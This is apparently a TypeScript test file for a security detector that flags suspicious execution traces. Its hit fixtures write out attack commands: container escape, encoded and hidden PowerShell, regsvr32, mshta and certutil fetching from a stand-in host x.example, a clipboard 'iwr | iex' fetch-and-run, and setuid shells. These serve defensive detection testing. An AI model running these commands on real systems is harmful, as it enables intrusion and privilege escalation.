import { testFamily } from '../../../../test/trace/detector-table.ts'
import { environment, file, gets, runs, system } from '../../../../test/trace/empty-trace.ts'
import { traceFamily } from '../family.ts'
import * as executionRegistry from './registry.ts'

const page = environment({ host_program: 'browser' })
const encoded = Buffer.from('Write-Output hello', 'utf16le').toString('base64')
const smuggled = (path: string) => ({
  dropped: [{ path, bytes: Buffer.from('PK\u0003\u0004'), source: 'smuggled' as const }],
})

testFamily(traceFamily(executionRegistry, 'execution'), {
  trace_leaves_container: {
    hits: {
      'the agent of a group': [file('write', '/tmp/cgrp/release_agent')],
      'the host mounted': [runs('docker run -v /:/mnt alpine chroot /mnt')],
    },
    misses: {
      'a container': [runs('docker run --rm alpine echo hello')],
      'a setting is read': [file('read', '/proc/sys/kernel/core_pattern')],
    },
  },
  trace_runs_encoded_powershell: {
    hits: {
      '-enc': [runs(`powershell -nop -enc ${encoded}`)],
      'a shorter name, carets': [runs(`cmd /c p^owershell -e ${encoded}`)],
    },
    misses: {
      'a policy': [runs('powershell -ExecutionPolicy Bypass -File C:\\scripts\\a.ps1')],
      'another program': [runs(`encoder -e ${encoded}`)],
    },
  },
  trace_hides_powershell: {
    hits: {
      'hidden and bypassed': [runs('powershell -w hidden -ep bypass -c dir')],
      'in full': [runs('powershell.exe -NoProfile -WindowStyle Hidden -File a.ps1')],
    },
    misses: {
      'a file by its policy': [runs('powershell -ExecutionPolicy Bypass -File C:\\scripts\\a.ps1')],
      'another program': [runs('tool -w hidden -ep bypass')],
    },
  },
  trace_carries_program: {
    hits: {
      'by a script': [environment({ host_program: 'script_host' }), file('write', 'C:\\a.dat', { start: 'MZ\\x90' })],
      'by a macro': [environment({ host_program: 'office' }), file('write', 'C:\\a.exe', { start: 'MZ' })],
    },
    misses: {
      'it came over the network': [
        environment({ host_program: 'script_host' }),
        file('write', 'C:\\a.exe', { start: 'MZ', origin: 'network' }),
      ],
      'a text': [environment({ host_program: 'script_host' }), file('write', 'C:\\a.txt', { start: 'MZone' })],
      'by a program': [file('write', 'C:\\a.exe', { start: 'MZ' })],
    },
  },
  trace_abuses_system_tool: {
    attack: ['T1218.005'],
    hits: {
      mshta: [runs('mshta http://x.example/a.hta')],
      squiblydoo: [runs('regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll')],
      'a library under the name of data': [runs('rundll32 .\\thumbs.db,#1')],
      certutil: [runs('certutil -urlcache -split -f http://x.example/a a.exe')],
    },
    misses: {
      'a library of the program': [runs('regsvr32 /s "C:\\Program Files\\Vendor\\a.ocx"')],
      'a library by its name alone': [runs('rundll32 user32.dll,LockWorkStation')],
      'a hash': [runs('certutil -hashfile a.exe SHA256')],
      'a control panel': [runs('rundll32.exe shell32.dll,Control_RunDLL desk.cpl')],
    },
  },
  trace_starts_process_indirectly: {
    attack: ['T1047'],
    hits: { wmi: [runs('calc.exe', { startedBy: 'wmi' })], wmic: [runs('wmic process call create calc.exe')] },
    misses: { directly: [runs('calc.exe')], 'wmic asks': [runs('wmic process get name')] },
  },
  trace_runs_dropped_program: {
    hits: {
      'from temp': [
        file('write', 'C:\\Users\\u\\AppData\\Local\\Temp\\a.exe'),
        runs('C:\\Users\\u\\AppData\\Local\\Temp\\a.exe'),
      ],
      'through two shells and a starter': [
        file('write', 'C:\\Users\\u\\AppData\\Local\\Temp\\a b.exe'),
        runs('cmd.exe /c "echo x & cmd /c start /b C:\\Users\\u\\AppData\\Local\\Temp\\a b.exe"'),
      ],
      'as a library of a system tool': [
        file('write', 'C:\\Users\\Public\\m.dll'),
        runs('rundll32 C:\\Users\\Public\\m.dll,Start'),
      ],
      'by a name of one letter': [file('mode', '/tmp/.x', { mode: '0755' }), runs('/tmp/.x')],
      'a batch file that starts a program among its settings': [
        file('write', 'C:\\work\\env.bat', { bytes: 34, start: 'set A=1\r\nset B=2 & start %A%.exe\r\n' }),
        runs('.\\env.bat'),
      ],
      'a batch file that nobody saw the end of': [
        file('write', 'C:\\work\\env.bat', { bytes: 4_000, start: 'set A=1\r\n'.repeat(56) }),
        runs('.\\env.bat'),
      ],
      'what one of its own programs wrote, of which nothing is seen': [
        file('write', 'C:\\Users\\u\\AppData\\Local\\Temp\\a.bat', { bytes: 0, start: '' }),
        runs('C:\\Users\\u\\AppData\\Local\\Temp\\a.bat'),
      ],
    },
    misses: {
      'the old version is ended before the new one is written': [
        file('write', 'C:\\Program Files\\A\\app.exe'),
        runs('taskkill /f /im app.exe'),
      ],
      'a rule of the firewall names the program': [
        file('write', 'C:\\Program Files\\A\\app.exe'),
        runs('cmd /c "netsh advfirewall firewall add rule name=A program=C:\\Program Files\\A\\app.exe & echo done"'),
      ],
      'a file that is opened in an editor': [file('mode', '/tmp/report.1', { mode: '0600' }), runs('vi /tmp/report.1')],
      'variables that a build takes over, from a program that is not there': [
        file('create', 'C:\\go\\src\\env.bat'),
        runs('.\\env.bat'),
      ],
      'variables that a build takes over': [
        file('write', 'C:\\go\\src\\env.bat', { bytes: 43, start: '@echo off\r\nset GOOS=windows\r\nset CGO=1\r\n' }),
        runs('.\\env.bat'),
      ],
      'a text is written': [file('write', 'C:\\t\\a.txt'), runs('notepad.exe C:\\t\\a.txt')],
      'written, not run': [file('write', 'C:\\t\\a.exe'), runs('notepad.exe')],
    },
  },
  trace_document_starts_program: {
    hits: { 'a shell': [environment({ host_program: 'office' }), runs('cmd /c calc')] },
    misses: {
      'a script': [environment({ host_program: 'script_host' }), runs('cmd /c calc')],
      'nothing started': [environment({ host_program: 'office' })],
    },
  },
  trace_script_starts_shell: {
    hits: { powershell: [environment({ host_program: 'script_host' }), runs('powershell -c dir')] },
    misses: {
      'an ordinary program': [environment({ host_program: 'script_host' }), runs('notepad.exe')],
      'not a script': [runs('powershell -c dir')],
    },
  },
  trace_smuggles_file: {
    hits: { 'an archive': [smuggled('invoice.zip')] },
    misses: {
      'a file that was fetched': [{ dropped: [{ path: 'a.zip', bytes: new Uint8Array(), source: 'downloaded' }] }],
      nothing: [],
    },
  },
  trace_puts_command_in_clipboard: {
    hits: {
      'a fetch and run': [
        page,
        system({ kind: 'clipboard', what: 'writes powershell -w hidden -c "iwr http://x.example | iex"' }),
      ],
    },
    misses: {
      'a text': [page, system({ kind: 'clipboard', what: 'writes Hello' })],
      'a program that reads it': [page, system({ kind: 'clipboard', what: 'reads' })],
    },
  },
  trace_page_leads_elsewhere: {
    hits: { 'at once': [page, gets('https://x.example/', { via: 'navigation', atMs: 1 })] },
    misses: {
      'after a press': [page, gets('https://x.example/', { via: 'navigation', atMs: 600_000 })],
      'a picture': [page, gets('https://x.example/a.png', { via: 'resource', atMs: 1 })],
    },
  },
  trace_loads_kernel_module: {
    hits: { insmod: [runs('insmod /tmp/a.ko')] },
    misses: {
      'what a module would need is shown': [runs('modprobe -S 6.1 --show-depends virtio_pci')],
      'modules are listed': [runs('lsmod')],
      'a name with it': [runs('/opt/insmodtool x')],
    },
  },
  trace_raises_rights: {
    hits: { setuid: [file('mode', '/tmp/sh', { mode: '4755' })], chmod: [runs('chmod u+s /tmp/sh')] },
    misses: { executable: [file('mode', '/tmp/a', { mode: '0755' })], 'chmod x': [runs('chmod +x /tmp/a'), system()] },
  },
})
